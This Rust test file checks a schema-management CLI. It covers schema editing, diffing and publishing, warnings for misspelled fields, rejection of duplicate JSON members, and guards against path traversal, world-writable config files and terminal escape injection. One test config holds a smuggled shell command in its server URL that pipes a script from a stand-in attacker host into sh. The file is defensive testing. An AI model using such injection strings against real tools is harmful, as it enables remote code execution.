//! Schema as code: the file, its comparison with the published schema, and publications.

use std::os::unix::fs::PermissionsExt as _;

use serde_json::{Value, json};
use steward_tests::{App, Backend, World};

use super::{CommandLine, Transcript};

/// Changes the schema file.
fn edit(app: &App, change: impl FnOnce(&mut Value)) {
    let path = app.directory().join("schema.json");
    let mut document: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    change(&mut document["tables"]["notes"]["fields"]);
    std::fs::write(path, document.to_string()).unwrap();
}

/// A file that has the number of the newest version is unchanged, too.
async fn unchanged_file_with_a_number(app: &App, line: &CommandLine) {
    let path = app.directory().join("schema.json");
    let before = std::fs::read(&path).unwrap();
    let mut document: Value = serde_json::from_slice(&before).unwrap();
    document["version"] = json!(2);
    std::fs::write(&path, document.to_string()).unwrap();
    assert_eq!(line.json(&["schema", "diff"]).await, json!([]));
    assert_eq!(line.json(&["schema", "push"]).await, json!({"version": 2, "published": false}));
    document["tables"]["notes"]["fields"]["late"] = json!({"type": "string"});
    std::fs::write(&path, document.to_string()).unwrap();
    line.fails(1, &["schema", "push"]).await;
    std::fs::write(path, before).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_schema_is_edited_as_a_file() {
    let app = App::start(Backend::Sqlite).await;
    let world = World::make(&app, "acme").await;
    let line = CommandLine::of(&app, &world.owner);
    line.text(&["schema", "init", "--project", &world.project]).await;
    line.fails(2, &["schema", "init", "--project", &world.project]).await;
    let mut transcript = Transcript::default();
    transcript.json(&line, &["schema", "diff"]).await;
    edit(&app, |fields| fields["tag"] = json!({"type": "string"}));
    transcript.json(&line, &["schema", "diff"]).await;
    line.text(&["schema", "check"]).await;
    edit(&app, |fields| fields["tag"]["type"] = json!("bool"));
    for command in ["check", "push"] {
        let output = line.run(&["schema", command], "").await;
        let message = String::from_utf8(output.stderr).unwrap();
        assert!(!output.status.success(), "{command}");
        let expected =
            "/tables/notes/fields/tag/type: must be equal to one of the allowed values: string, boolean, number, json";
        assert!(message.contains(expected), "{message}");
    }
    edit(&app, |fields| fields["tag"]["type"] = json!("string"));
    transcript.json(&line, &["schema", "push"]).await;
    transcript.json(&line, &["schema", "push"]).await;
    transcript.json(&line, &["schema", "history"]).await;
    unchanged_file_with_a_number(&app, &line).await;

    // The stored item has no such field.
    edit(&app, |fields| fields["due"] = json!({"type": "string", "required": true}));
    for command in [&["schema", "diff"][..], &["schema", "push"], &["schema", "push", "--dry-run"]] {
        let output = line.run(command, "").await;
        assert_eq!(output.status.code(), Some(2), "{command:?}: {}", String::from_utf8_lossy(&output.stderr));
    }
    let history = ["schema", "history", "--fields", "version"];
    assert_eq!(line.json(&history).await, json!([{"version": 2}, {"version": 1}]));
    line.json(&["schema", "push", "--allow-destructive"]).await;
    line.json(&["schema", "rollback", "1", "--allow-destructive"]).await;
    let changes = json!({"tables": {"notes": {"fields": {"tag": {"type": "string"}}}}}).to_string();
    std::fs::write(app.directory().join("changes.json"), changes).unwrap();
    line.json(&["schema", "patch", "changes.json"]).await;
    let published = line.json(&["schema", "get"]).await;
    let fields = &published["tables"]["notes"]["fields"];
    assert_eq!((&fields["tag"]["type"], fields.get("due")), (&json!("string"), None));
    transcript.json(&line, &["schema", "pull"]).await;
    assert_eq!(line.json(&["schema", "diff"]).await, json!([]));
    transcript.check("schema");

    let types = line.text(&["schema", "types", "--lang", "ts"]).await;
    assert!(types.contains("tag?: string"), "{types}");
    let types = line.text(&["schema", "types", "--lang", "rust"]).await;
    assert!(types.contains("tag: Option<String>"), "{types}");
    assert!(line.json(&["schema", "json-schema"]).await.is_object());
}

/// Runs a command. Returns its exit code and what it prints to standard error.
async fn run(line: &CommandLine, command: &[&str]) -> (Option<i32>, String) {
    let output = line.run(&[&["schema"], command].concat(), "").await;
    (output.status.code(), String::from_utf8(output.stderr).unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn members_without_effect_are_warnings_unless_a_command_is_strict() {
    const WARNING: &str =
        "Warning: /tables/notes/fields/tag/requierd: `requierd` has no effect. Did you mean `required`?";
    let app = App::start(Backend::Sqlite).await;
    let world = World::make(&app, "acme").await;
    let line = CommandLine::of(&app, &world.owner);
    line.text(&["schema", "init", "--project", &world.project]).await;
    edit(&app, |fields| fields["tag"] = json!({"type": "string", "requierd": true}));
    let versions = async || line.json(&["schema", "history", "--fields", "version"]).await;
    for command in [&["check", "--strict"][..], &["push", "--strict"], &["push", "--strict", "--dry-run"]] {
        let (code, message) = run(&line, command).await;
        assert_eq!(code, Some(2), "{command:?}: {message}");
        assert!(message.contains(WARNING) && message.contains("without --strict"), "{command:?}: {message}");
    }
    let (code, message) = run(&line, &["push", "--strict", "--allow-destructive", "--yes"]).await;
    assert_eq!((code, versions().await), (Some(2), json!([{"version": 1}])), "{message}");
    for command in [&["diff"][..], &["check"], &["push", "--dry-run"], &["push"], &["push"]] {
        let (code, message) = run(&line, command).await;
        assert_eq!((code, message.matches(WARNING).count()), (Some(0), 1), "{command:?}: {message}");
    }
    // Without changes, a strict command reports them too.
    let (code, message) = run(&line, &["push", "--strict"]).await;
    assert_eq!((code, versions().await), (Some(2), json!([{"version": 2}, {"version": 1}])), "{message}");

    edit(&app, |fields| fields["tag"] = json!({"type": "string"}));
    for command in [&["check", "--strict"][..], &["push", "--strict"]] {
        let (code, message) = run(&line, command).await;
        assert!(code == Some(0) && !message.contains("Warning"), "{command:?}: {message}");
    }
    assert_eq!(versions().await[0], json!({"version": 3}));
    let (code, message) = run(&line, &["rollback", "2"]).await;
    assert!(code == Some(0) && message.contains(WARNING), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_with_a_duplicate_member_is_not_sent() {
    let app = App::start(Backend::Sqlite).await;
    let world = World::make(&app, "acme").await;
    let line = CommandLine::of(&app, &world.owner);
    let twice = r#"{"tables": {"notes": {"fields": {}}}, "tables": {}}"#;
    std::fs::write(app.directory().join("twice.json"), twice).unwrap();
    let of_user = ["--project", world.project.as_str(), "--user", &world.user, "--table", "notes"];
    let project = &of_user[..2];
    for (exit_code, command, options) in [
        (1, &["schema", "patch", "twice.json"][..], project),
        (1, &["schema", "patch", "-"], project),
        (1, &["schema", "push", "--file", "twice.json"], project),
        (2, &["item", "create", "--input", "twice.json"], &of_user),
        (2, &["item", "create", "-F", "title={\"a\": 1, \"a\": 2}"], &of_user),
        (2, &["item", "batch", "-"], &of_user),
        (2, &["project", "settings", "set", "auth={\"a\": 1, \"a\": 2}"], project),
        (2, &["api", "POST", "/team", "-F", "name={\"a\": 1, \"a\": 2}"], &[]),
    ] {
        let output = line.run(&[command, options].concat(), twice).await;
        let message = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(exit_code), "{command:?}: {message}");
        assert!(message.contains("two members named"), "{command:?}: {message}");
    }
}

/// Writes a `steward.json` that names this schema file.
fn name_schema(app: &App, world: &World, schema: &str) {
    let file = json!({"server": app.base, "project": world.project, "schema": schema});
    std::fs::write(app.directory().join("steward.json"), file.to_string()).unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_repository_cannot_read_or_write_files_outside_of_it() {
    let app = App::start(Backend::Sqlite).await;
    let world = World::make(&app, "acme").await;
    let line = CommandLine::of(&app, &world.owner);
    let home = tempfile::tempdir().unwrap();
    let outside = home.path().join("schema.json");
    std::os::unix::fs::symlink(home.path(), app.directory().join("docs")).unwrap();
    let up = format!("{}{}", "../".repeat(30), outside.to_str().unwrap().trim_start_matches('/'));
    for schema in [outside.to_str().unwrap(), &up, "docs/schema.json"] {
        name_schema(&app, &world, schema);
        for command in [&["schema", "pull", "--yes"][..], &["schema", "push"], &["schema", "types", "--lang", "ts"]] {
            let message = line.fails(2, command).await;
            assert!(message.contains("outside the directory of steward.json"), "{schema}: {message}");
        }
        assert!(!outside.exists(), "{schema} was written.");
        let message = line.fails(2, &["schema", "pull"]).await;
        assert!(!message.contains("Overwrite"), "{message}");
    }
    std::fs::write(&outside, "{\"tables\": {}}").unwrap();
    let message = line.fails(2, &["schema", "check"]).await;
    assert!(message.contains("outside the directory of steward.json"), "{message}");
    line.text(&["schema", "pull", "--yes", "--file", outside.to_str().unwrap()]).await;
    assert!(std::fs::read_to_string(&outside).unwrap().contains("notes"), "A named file was not written.");

    name_schema(&app, &world, "schema.json");
    line.text(&["schema", "pull"]).await;
    std::fs::write(app.directory().join("schema.json"), "{\"tables\": {}}").unwrap();
    let message = line.fails(2, &["schema", "pull"]).await;
    assert!(message.contains("Overwrite") && message.contains("--yes"), "{message}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_project_file_that_others_can_change_is_refused_unless_it_is_trusted() {
    let app = App::start(Backend::Sqlite).await;
    let world = World::make(&app, "acme").await;
    let line = CommandLine::of(&app, &world.owner);
    let path = app.directory().join("steward.json");
    name_schema(&app, &world, "schema.json");
    line.text(&["schema", "pull"]).await;
    let permit = |mode| std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
    permit(0o666);
    let message = line.fails(2, &["schema", "diff"]).await;
    assert!(message.contains("can be changed by other users"), "{message}");
    let directory = app.directory().to_str().unwrap().to_owned();
    let trusting = [
        ("STEWARD_SERVER", app.base.as_str()),
        ("STEWARD_TOKEN", world.owner.credential.as_deref().unwrap()),
        ("STEWARD_TRUSTED_DIRECTORY", &directory),
    ];
    CommandLine::with(&app, &trusting).text(&["schema", "diff"]).await;
    permit(0o644);
    line.text(&["schema", "diff"]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn messages_contain_no_text_of_a_repository_that_controls_a_terminal_or_a_shell() {
    let app = App::start(Backend::Sqlite).await;
    let line = CommandLine::with(&app, &[]);
    for (file, expected) in [
        (json!({"server": "https://e.example/;curl evil.example|sh #\u{1b}]0;", "project": "a"}), "not the URL"),
        (json!({"project": "a", "\u{1b}[2J\u{202e}": 1}), "unknown field"),
    ] {
        std::fs::write(app.directory().join("steward.json"), file.to_string()).unwrap();
        let message = line.fails(2, &["project", "list"]).await;
        assert!(message.contains(expected) && !message.contains("steward login"), "{message}");
        assert!(!message.contains(['\u{1b}', '\u{202e}']), "{message:?}");
    }
}
